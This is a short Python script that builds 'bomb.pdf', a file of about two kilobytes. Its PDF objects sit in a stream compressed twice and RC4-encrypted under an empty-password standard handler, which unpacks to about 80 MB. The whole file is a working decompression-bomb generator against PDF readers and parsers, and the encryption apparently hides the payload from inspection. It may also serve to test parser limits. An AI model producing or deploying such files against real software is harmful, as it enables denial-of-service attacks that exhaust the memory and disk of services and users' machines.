#!/usr/bin/env python3
"""Writes `bomb.pdf`: two kilobytes, encrypted so that anybody may read it, in which the objects of the file stand in a stream
that is packed twice and unpacks to 80 MB."""

import hashlib
import pathlib
import zlib

PAD = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")
ID = bytes(range(16))


def rc4(key, data):
    box = list(range(256))
    j = 0
    for i in range(256):
        j = (j + box[i] + key[i % len(key)]) % 256
        box[i], box[j] = box[j], box[i]
    i = j = 0
    out = bytearray()
    for byte in data:
        i = (i + 1) % 256
        j = (j + box[i]) % 256
        box[i], box[j] = box[j], box[i]
        out.append(byte ^ box[(box[i] + box[j]) % 256])
    return bytes(out)


# The standard handler, revision 2, without a password.
OWNER = rc4(hashlib.md5(PAD).digest()[:5], PAD)
KEY = hashlib.md5(PAD + OWNER + (-4).to_bytes(4, "little", signed=True) + ID).digest()[:5]
USER = rc4(KEY, PAD)


def locked(number, data):
    return rc4(hashlib.md5(KEY + number.to_bytes(3, "little") + b"\0\0").digest()[:10], data)


objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"}
objects[3] = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>"
heads, bodies = [], b""
for number, body in objects.items():
    heads.append(f"{number} {len(bodies)}")
    bodies += body + b" "
head = (" ".join(heads) + " ").encode()
held = head + bodies + b" " * 80_000_000
packed = locked(4, zlib.compress(zlib.compress(held, 9), 9))

out = b"%PDF-1.5\n"
places = {}


def add(number, content):
    global out
    places[number] = len(out)
    out += b"%d 0 obj\n" % number + content + b"\nendobj\n"


about = b"<< /Type /ObjStm /N 3 /First %d /Filter [/FlateDecode /FlateDecode] /Length %d >>" % (len(head), len(packed))
add(4, about + b"\nstream\n" + packed + b"\nendstream")
add(5, b"<< /Filter /Standard /V 1 /R 2 /P -4 /O <%s> /U <%s> >>" % (OWNER.hex().encode(), USER.hex().encode()))
places[6] = len(out)
rows = [(0, 0, 0), (2, 4, 0), (2, 4, 1), (2, 4, 2), (1, places[4], 0), (1, places[5], 0), (1, places[6], 0)]
table = b"".join(kind.to_bytes(1, "big") + at.to_bytes(4, "big") + bytes([index]) for kind, at, index in rows)
trailer = b"<< /Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R /Encrypt 5 0 R /ID [<%s> <%s>] /Length %d >>"
trailer %= (ID.hex().encode(), ID.hex().encode(), len(table))
add(6, trailer + b"\nstream\n" + table + b"\nendstream")
out += b"startxref\n%d\n%%%%EOF\n" % places[6]
(pathlib.Path(__file__).parent / "bomb.pdf").write_bytes(out)
